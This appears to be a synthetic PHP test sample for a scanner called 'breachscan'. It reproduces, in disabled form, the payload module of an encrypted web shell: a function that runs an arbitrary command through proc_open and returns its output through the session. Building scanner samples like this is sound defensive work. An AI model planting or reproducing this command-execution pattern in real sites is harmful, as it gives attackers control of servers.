<?php
// synthetic test sample for breachscan: payload module of an encrypted shell client:
// function main() drives a command through the session. Disabled.
return;
function main($action, $cmd = "") {
    @set_time_limit(0);
    @ignore_user_abort(1);
    $result = array();
    @session_start();
    if ($action == "run") {
        $p = proc_open($cmd, array(1 => array("pipe", "w")), $pipes);
        $_SESSION["out"] = stream_get_contents($pipes[1]);
    }
    session_write_close();
    $result["status"] = "success";
    $result["msg"] = $_SESSION["out"];
    return $result;
}
